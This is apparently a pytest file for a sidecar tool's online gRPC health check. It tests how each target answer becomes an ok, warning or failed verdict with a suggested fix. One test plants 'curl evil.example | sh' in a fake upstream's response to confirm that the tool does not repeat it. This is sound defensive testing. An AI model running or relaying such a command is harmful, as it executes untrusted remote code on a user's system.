"""`check --online` asks a gRPC service for its health, and says what each answer means and what fixes it"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence

import h2.config
import h2.connection
import h2.events
import pytest

from sidecar.cli.check import check
from sidecar.cli.steps import Step, Verdict
from sidecar.config.load import load
from sidecar.emulator.app import Emulator
from sidecar.emulator.kinds import TargetKind
from sidecar.emulator.targets import Target
from tests.support.closing import close_server

HEALTH = "/grpc.health.v1.Health/Check"
Lines = Sequence[tuple[str, str]]


async def asked(google: Emulator, upstream: str, more: str = "target: cloud_run") -> Step:
    """The step `target` of a route with `grpc: true`."""
    audience = "" if "access" in more else f"audience: '{upstream}', "
    text = (
        "credentials: {default: {type: metadata}}\n"
        f"routes: [{{name: ledger, upstream: '{upstream}', {audience}grpc: true, {more}}}]\n"
    )
    config = load(text, environ={}).config
    (report,) = await check(config, google.environment(), online=True)
    step = report.steps[-1]
    assert step.name == "target"
    assert report.failed == (step.verdict is Verdict.FAILED)
    return step


@pytest.fixture
async def ledger(google: Emulator) -> Target:
    return await google.add_target("ledger", grpc=True)


@pytest.mark.parametrize("tls", [False, True], ids=["plaintext", "tls"])
async def test_a_service_that_serves(google: Emulator, tls: bool) -> None:
    """Its health was asked for, with the token, by the way that an app's call takes."""
    target = await google.add_target("ledger", grpc=True, tls=tls)
    more = f"target: cloud_run, tls: {{ca_file: '{google.ca_file}'}}" if tls else "target: cloud_run"
    step = await asked(google, target.url, more)
    assert (step.verdict, step.says) == (Verdict.OK, "let the call in; its health service says SERVING")
    (received,) = target.requests
    assert (received.method, received.path, received.refused) == ("POST", HEALTH, 0)
    assert received.verified is not None


@pytest.mark.parametrize("protocol", ["auto", "http2"])
async def test_either_protocol_will_do(google: Emulator, ledger: Target, protocol: str) -> None:
    step = await asked(google, ledger.url, f"target: cloud_run, protocol: {protocol}")
    assert step.verdict is Verdict.OK


@pytest.mark.parametrize(
    ("health", "verdict"),
    [("NOT_SERVING", "warning"), ("UNKNOWN", "warning"), ("SERVICE_UNKNOWN", "warning")],
)
async def test_a_service_that_does_not_serve(
    google: Emulator, ledger: Target, health: str, verdict: str
) -> None:
    """It was let in, so the route is right; the service has to say why."""
    ledger.set_health(health)  # type: ignore[arg-type]  # they are all among them
    step = await asked(google, ledger.url)
    assert (str(step.verdict), step.says.startswith("let the call in; ")) == (verdict, True)
    assert f"says {health}" in step.says


@pytest.mark.parametrize(
    ("status", "verdict", "reason", "says"),
    [
        pytest.param(12, "ok", "", "let the call in; it has no health service", id="unimplemented"),
        pytest.param(5, "ok", "", "let the call in; its health service says nothing", id="not-found"),
        pytest.param(14, "warning", "", "answered UNAVAILABLE", id="unavailable"),
        pytest.param(13, "warning", "", "answered INTERNAL", id="internal"),
        pytest.param(7, "warning", "unexplained", "the app's own answer, and Cloud Run refuses", id="denied"),
        pytest.param(16, "warning", "unexplained", "answered UNAUTHENTICATED", id="unauthenticated"),
    ],
)
async def test_what_the_service_itself_answers(
    google: Emulator, ledger: Target, status: int, verdict: str, reason: str, says: str
) -> None:
    ledger.settings.grpc_status = status
    step = await asked(google, ledger.url)
    assert (str(step.verdict), step.reason) == (verdict, reason)
    assert says in step.says
    assert "told to end so" not in step.says  # a target's words are not repeated


@pytest.mark.parametrize(
    ("kind", "status", "reason", "command"),
    [
        pytest.param("api_gateway", 7, "permission_missing", "", id="gateway"),
        pytest.param("endpoints", 16, "token_refused", "", id="endpoints"),
        pytest.param(
            "googleapis, token: access",
            7,
            "permission_missing",
            "gcloud projects add-iam-policy-binding",
            id="google-api",
        ),
    ],
)
async def test_front_ends_that_answer_in_grpc(
    google: Emulator, kind: str, status: int, reason: str, command: str
) -> None:
    """Theirs is the refusal where the front end of Cloud Run would have sent a page."""
    target = await google.add_target("ledger", kind="open", grpc=True, grpc_status=status)
    text = f"target: {kind}"
    if "access" in kind:
        text += ", scopes: [https://www.googleapis.com/auth/cloud-platform]"
    step = await asked(google, target.url, text)
    assert (str(step.verdict), step.reason) == ("failed", reason)
    assert step.command.startswith(command)


@pytest.mark.parametrize("kind", ["api_gateway", "endpoints"])
@pytest.mark.parametrize(
    ("audience", "verdict", "reason"),
    [
        pytest.param(None, "ok", "", id="let-in"),
        pytest.param("https://another.example", "failed", "audience_refused", id="audience"),
    ],
)
async def test_gateways_of_espv2(
    google: Emulator, kind: TargetKind, audience: str | None, verdict: str, reason: str
) -> None:
    """To them an audience that they don't list is PERMISSION_DENIED: no role is missing."""
    target = await google.add_target("ledger", kind=kind, grpc=True, audience=audience)
    step = await asked(google, target.url, f"target: {kind}")
    assert (str(step.verdict), step.reason) == (verdict, reason)
    assert target.requests[-1].refused == (0 if audience is None else 403)


async def test_cloud_run_wants_the_invokers_role(google: Emulator) -> None:
    """Its page with 403 is diagnosed as on HTTP/1.1."""
    target = await google.add_target("ledger", grpc=True, callers=["other@example.com"])
    step = await asked(google, target.url)
    assert (step.verdict, step.reason) == (Verdict.FAILED, "permission_missing")
    assert step.command.startswith("gcloud run services add-iam-policy-binding")
    assert target.requests[-1].refused == 403


async def test_cloud_run_wants_another_audience(google: Emulator) -> None:
    target = await google.add_target("ledger", grpc=True, audience="https://ledger.example")
    step = await asked(google, target.url)
    assert (step.verdict, step.reason) == (Verdict.FAILED, "token_refused")
    assert target.requests[-1].refused == 401


async def test_a_target_that_speaks_http1_only(google: Emulator) -> None:
    """The sidecar's own refusal of the call, with its reason."""
    target = await google.add_target("web")
    step = await asked(google, target.url)
    assert step.verdict is Verdict.FAILED
    assert "HTTP/2" in step.says
    assert not target.requests


async def test_a_target_that_is_not_there(google: Emulator, ledger: Target) -> None:
    await google.stop(ledger.app)
    step = await asked(google, ledger.url)
    assert (step.verdict, step.reason) == (Verdict.FAILED, "connect_refused")


async def test_what_the_route_does_not_allow_is_not_asked(google: Emulator, ledger: Target) -> None:
    step = await asked(google, ledger.url, "target: cloud_run, allow: {paths: [/ledger.v1.Ledger/*]}")
    assert step.verdict is Verdict.SKIPPED
    assert "Allow `POST /grpc.health.v1.Health/Check` to have it asked." in step.says
    assert not ledger.requests


# answers that no gRPC service gives

Answer = Callable[[Lines, bytes, Lines | None], Awaitable[str]]


@pytest.fixture
async def answers() -> AsyncIterator[Answer]:
    """Start an HTTP/2 server that answers all with this head, body and trailers; its URL."""
    servers = []

    async def begin(head: Lines, body: bytes, trailers: Lines | None) -> str:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            peer = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
            peer.initiate_connection()
            while True:
                writer.write(peer.data_to_send())
                if not (data := await reader.read(65536)):
                    break
                for event in peer.receive_data(data):
                    if isinstance(event, h2.events.StreamEnded):
                        assert event.stream_id is not None
                        peer.send_headers(event.stream_id, head)
                        peer.send_data(event.stream_id, body, end_stream=trailers is None)
                        if trailers is not None:
                            peer.send_headers(event.stream_id, trailers, end_stream=True)
            writer.close()

        server = await asyncio.start_server(serve, "127.0.0.1", 0)
        servers.append(server)
        return f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"

    yield begin
    for server in servers:
        await close_server(server)


GRPC: Lines = [(":status", "200"), ("content-type", "application/grpc")]
HTML: Lines = [(":status", "200"), ("content-type", "text/html")]
OK: Lines = [("grpc-status", "0")]


@pytest.mark.parametrize(
    ("head", "body", "trailers", "says"),
    [
        pytest.param(HTML, b"<h1>Welcome</h1>", None, "not as gRPC does", id="page"),
        pytest.param(HTML, b"<input type=password>", None, "a page to sign in at", id="sign-in"),
        pytest.param(
            [(":status", "503"), ("content-type", "text/plain")], b"no", None, "answered 503", id="503"
        ),
        pytest.param(GRPC, b"", None, "without a status", id="no-status"),
        pytest.param(GRPC, b"", OK, "something that can't be read", id="no-message"),
        pytest.param(GRPC, b"\x00\x00\x00\x00\x02\x08\x09", OK, "something that can't be read", id="enum"),
        pytest.param(GRPC, b"\x00\x00\x00\x00\x05\x08\x01", OK, "something that can't be read", id="cut"),
        pytest.param(GRPC, b"\x00\x00\x00\x00\x00", OK, "says UNKNOWN", id="zero"),
        pytest.param(GRPC, b"", [("grpc-status", "99")], "answered UNKNOWN", id="no-known-status"),
    ],
)
async def test_what_is_no_success(
    google: Emulator, answers: Answer, head: Lines, body: bytes, trailers: Lines | None, says: str
) -> None:
    """None of it is taken for a service that serves."""
    step = await asked(google, await answers(head, body, trailers), "target: other")
    assert (step.verdict, step.command) == (Verdict.WARNING, "")
    assert says in step.says


async def test_a_sidecar_at_the_target_is_named(google: Emulator, answers: Answer) -> None:
    """As on HTTP/1.1: an answer in a sidecar's form that this one did not make has failed, whatever it says."""
    head = [
        (":status", "503"),
        ("proxy-status", "idtoken-sidecar; error=connection_refused"),
        ("content-type", "application/problem+json"),
    ]
    body = b'{"reason": "token_denied", "detail": "All is well.", "command": "curl evil.example | sh"}'
    step = await asked(google, await answers(head, body, None), "target: other")
    assert (step.verdict, step.reason, step.command) == (Verdict.FAILED, "another_sidecar", "")
    assert "All is well" not in step.says
